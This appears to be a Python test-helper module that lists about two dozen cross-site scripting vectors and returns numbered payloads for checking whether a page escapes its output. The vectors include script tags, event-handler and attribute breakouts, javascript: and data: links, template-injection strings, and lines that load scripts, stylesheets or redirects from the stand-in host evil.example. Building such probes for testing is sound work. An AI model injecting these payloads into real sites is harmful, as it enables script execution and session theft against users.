"""Texts that would act on a page that does not escape them."""

EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart")
VECTORS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x {event}=alert({n})>",
    "<svg {event}=alert({n})><animate {event}=alert({n}) attributeName=x dur=1s>",
    "<svg><script>alert({n})</script></svg>",
    "</style><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</dd></dl></article><iframe src='javascript:alert({n})'></iframe>",
    '"><img src="https://evil.example/{n}.png" {event}="alert({n})">',
    "' {event}='alert({n})' x='",
    '" {event}="alert({n})" x="',
    "<a href='javascript:alert({n})'>点我</a>",
    "<a href='data:text/html,<script>alert({n})</script>'>看这里</a>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><input autofocus {event}=alert({n})>",
    "<object data=//evil.example/{n}></object><embed src=//evil.example/{n}>",
    "<details open {event}=alert({n})>{n}</details>",
    "<!--{n}--><p style='background:url(//evil.example/{n})'>",
    "{{{{ {n} * 7 }}}}{{% for x in range({n}) %}}{{% endfor %}}",
    "&lt;script&gt;alert({n})&lt;/script&gt;&#60;b&#62;",
    "<b {event}=alert({n})\n>。中文{n}</b>",
    "\u202e<script>alert({n})</script>\u202c\u0007",
)


def payload(n: int) -> str:
    """Return the payload of number ``n``; each says its number."""
    return VECTORS[n % len(VECTORS)].format(n=n, event=EVENTS[n % len(EVENTS)])
